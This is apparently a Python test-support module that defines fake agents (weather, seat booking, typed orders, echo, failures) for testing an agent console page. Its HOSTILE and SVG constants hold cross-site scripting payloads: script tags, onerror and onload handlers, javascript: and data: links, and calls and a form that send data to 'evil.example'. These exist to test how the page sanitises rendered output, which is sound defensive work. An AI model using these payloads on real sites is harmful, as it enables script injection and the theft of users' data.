"""Agents that the console page talks to: typed events, plain text, typed payloads, failures; some wait for a gate."""

from __future__ import annotations

import asyncio
import base64
from collections.abc import AsyncIterator
from typing import Annotated, Any, Literal
from urllib.parse import quote

from pydantic import Base64Bytes, BaseModel, Field

from ppio_agent_models import (
    AgentError,
    Interrupt,
    ReasoningMessageContentEvent,
    RunFinishedEvent,
    RunOutcome,
    StateDeltaEvent,
    StateSnapshotEvent,
    ToolCallArgsEvent,
    ToolCallResultEvent,
    ToolCallStartEvent,
)
from ppio_agent_runtime import AgentConfig, PPIOAgentRuntimeApp, RequestContext
from tests.support.gates import Count, Gate

FORECAST = """It is **minus three** degrees in Oslo, with light snow.

| hour | °C | wind |
|---|---|---|
| 09:00 | -4 | 3 m/s |
| 12:00 | -3 | 5 m/s |

```python
def celsius(fahrenheit: float) -> float:
    return (fahrenheit - 32) / 1.8
```

Take a coat, and see the [forecast](https://weather.example/oslo).
"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="parent.hacked = 20; top.hacked = 20">
<script>parent.hacked = 21; top.hacked = 21; fetch("https://evil.example/21")</script>
<image href="https://evil.example/22.png" width="9" height="9"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:top.hacked=23"/></foreignObject>
<a href="javascript:top.hacked=24"><rect width="40" height="20"/></a></svg>"""
SVG_64 = base64.b64encode(SVG.encode()).decode()
SVG_ADDRESSES = (
    f"data:image/svg+xml;base64,{SVG_64}",
    f"data:image/svg+xml,{quote(SVG)}",
    f"data:image/png,{quote(SVG)}",
    f"data:image/png;charset=utf-8;base64,{SVG_64}",
    "data:text/html,%3Cscript%3Etop.hacked=25%3C/script%3E",
)
HOSTILE = """<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"><a xlink:href="javascript:window.hacked=4"><text>click</text></a></svg>
<iframe srcdoc="<script>parent.hacked = 5</script>"></iframe>

[first](javascript:window.hacked=6) [second](data:text/html,<script>window.hacked=7</script>)
[third](vbscript:x) <javascript:window.hacked=8> [fourth](JaVaScRiPt:window.hacked=9)

![leak](https://evil.example/?secret=1) ![vector](data:image/svg+xml;base64,PHN2Zy8+)

<form action="https://evil.example"><input name="body"><button id="message">go</button></form>

[honest](https://good.example/path "title")

```html
<script>window.hacked = 10</script>
```

| <img src=x onerror=window.hacked=11> | `<b>` |
|---|---|
| <style>*{display:none}</style> | "><script>window.hacked=12</script> |
"""


class Weather:
    """Reasons, calls a tool, keeps state, and says the forecast; up to the gate at first, then the rest.

    A prompt with `book` ends with a question, one with `fail` raises, one with `slow` waits before its first event.
    """

    def __init__(self, app: PPIOAgentRuntimeApp | None = None) -> None:
        self.prompts: list[str] = []
        self.gate = Gate("the forecast")
        self.runs = Count()
        self.cancelled = Count()
        self.app = app or PPIOAgentRuntimeApp(AgentConfig(debug=True, agent_name="weather"))
        self.app.entrypoint(self.weather)

    async def weather(self, payload: dict[str, Any], context: RequestContext) -> AsyncIterator[Any]:
        self.runs.add()
        if "resume" in payload:
            answer = payload["resume"][0]
            yield f"The answer was {answer['status']}: `{answer.get('payload')}`."
            return
        prompt = payload["prompt"]
        self.prompts.append(prompt)
        try:
            if "slow" in prompt:
                await self.gate.passed()
            if "fail" in prompt:
                raise AgentError("The weather station is closed.", status_code=503, error_type="StationClosedError")
            async for event in self._forecast(context):
                yield event
        except asyncio.CancelledError:
            self.cancelled.add()
            raise
        if "book" in prompt.lower():
            question = Interrupt(id="flight", message="Book the flight?", metadata={"price": "120 EUR"})
            yield RunFinishedEvent(outcome=RunOutcome(type="interrupt", interrupts=[question]))

    async def _forecast(self, context: RequestContext) -> AsyncIterator[Any]:
        yield StateSnapshotEvent(snapshot={"city": None, "steps": []})
        for word in ("I look up ", "the weather ", "of the city first."):
            yield ReasoningMessageContentEvent(delta=word)
            await asyncio.sleep(0.02)
        yield ToolCallStartEvent(tool_call_id="call-1", tool_call_name="get_weather")
        yield ToolCallArgsEvent(tool_call_id="call-1", delta='{"city": "Oslo"}')
        await asyncio.sleep(0.1)
        yield ToolCallResultEvent(tool_call_id="call-1", content='{"temperature": -3, "sky": "snow"}')
        yield StateDeltaEvent(delta=[{"op": "replace", "path": "/city", "value": "Oslo"}])
        yield StateDeltaEvent(delta=[{"op": "add", "path": "/steps/-", "value": "looked up"}])
        context.progress({"done": 1, "total": 2})
        half = FORECAST.index("| 12:00")
        for text in pieces(FORECAST[:half]):
            yield text
        await self.gate.passed()
        for text in pieces(FORECAST[half:]):
            yield text


def pieces(text: str, size: int = 7) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


class Seat(BaseModel):
    """What the agent asks for before it books."""

    row: Annotated[int, Field(ge=1, le=30, description="Counted from the front")]
    side: Literal["window", "aisle"]
    meal: str = ""


def asking(schema: dict[str, Any], *more: Interrupt) -> PPIOAgentRuntimeApp:
    """Return an agent that asks for what `schema` describes, and `more`; it refuses row 13, and says the answers."""
    app = PPIOAgentRuntimeApp(debug=True)

    @app.entrypoint
    def ask(payload: dict[str, Any]) -> Any:
        if "resume" in payload:
            answers = {each["interrupt_id"]: each.get("payload", each["status"]) for each in payload["resume"]}
            if isinstance(answers["seat"], dict) and answers["seat"].get("row") == 13:
                raise AgentError("There is no row 13.", status_code=422, error_type="NoSuchSeatError")
            return answers
        question = Interrupt(id="seat", message="Which seat?", response_schema=schema)
        return iter([RunFinishedEvent(outcome=RunOutcome(type="interrupt", interrupts=[question, *more]))])

    return app


class Circle(BaseModel):
    kind: Literal["circle"] = "circle"
    radius: float


class Square(BaseModel):
    kind: Literal["square"] = "square"
    side: float


class Address(BaseModel):
    street: str
    city: str = "Oslo"


class Order(BaseModel):
    """What a typed agent takes."""

    name: Annotated[str, Field(min_length=2, max_length=20, description="Who orders")]
    amount: Annotated[int, Field(ge=1, le=10)] = 1
    express: bool = False
    color: Literal["red", "green"] = "red"
    address: Address | None = None
    tags: list[str] = []
    shape: Circle | Square = Circle(radius=1)
    photo: Base64Bytes | None = None
    extra: dict[str, int] = {}


def typed() -> PPIOAgentRuntimeApp:
    """Return an agent with a typed payload, which answers with it."""
    app = PPIOAgentRuntimeApp(debug=True)

    @app.entrypoint
    def order(payload: Order) -> dict[str, Any]:
        photo = None if payload.photo is None else payload.photo.decode()
        return {**payload.model_dump(mode="json", exclude={"photo"}), "photo": photo}

    return app


def plain() -> PPIOAgentRuntimeApp:
    """Return an agent of plain text, which says what it was asked; `hostile` gets all that is hostile."""
    app = PPIOAgentRuntimeApp(debug=True)

    @app.entrypoint
    def echo(payload: dict[str, Any]) -> Any:
        if payload.get("prompt") == "hostile":
            yield from pieces(HOSTILE, 11)
        elif payload.get("prompt") == "value":
            yield {"answer": [1, 2, 3]}
        else:
            yield f"You said {payload}."

    return app


def drawing() -> PPIOAgentRuntimeApp:
    """Return an agent with hostile SVG and addresses of data, wherever an image may be."""
    app = PPIOAgentRuntimeApp(debug=True)

    @app.entrypoint
    def draw(payload: dict[str, Any]) -> Any:
        for number, address in enumerate(SVG_ADDRESSES):
            yield f"![picture {number}]({address}) [link {number}]({address})\n\n"
        yield f"{SVG}\n\n```svg\n{SVG}\n```\n\n"
        yield ToolCallStartEvent(tool_call_id="1", tool_call_name="draw")
        image = {"type": "image", "source": {"type": "data", "mimeType": "image/svg+xml", "value": SVG_64}}
        page = {"type": "image", "source": {"type": "data", "mimeType": "text/html", "value": SVG_64}}
        afar = {"type": "image", "source": {"type": "url", "value": "https://evil.example/26.png"}}
        content = [image, page, afar, {"type": "image", "mimeType": 'image/x" onerror="', "data": "AAAA"}, SVG]
        yield {"type": "TOOL_CALL_RESULT", "messageId": "2", "toolCallId": "1", "content": content}
        yield {"type": "ACTIVITY_SNAPSHOT", "messageId": "3", "activityType": SVG, "content": {"svg": SVG}}
        yield {"svg": SVG}

    return app


def failing() -> PPIOAgentRuntimeApp:
    """Return an agent that fails before, or after its first words."""
    app = PPIOAgentRuntimeApp(debug=True)

    @app.entrypoint
    def fail(payload: dict[str, Any]) -> Any:
        if payload.get("prompt") == "late":
            yield "So far, so good. "
        raise ValueError("The cupboard is bare.")

    return app
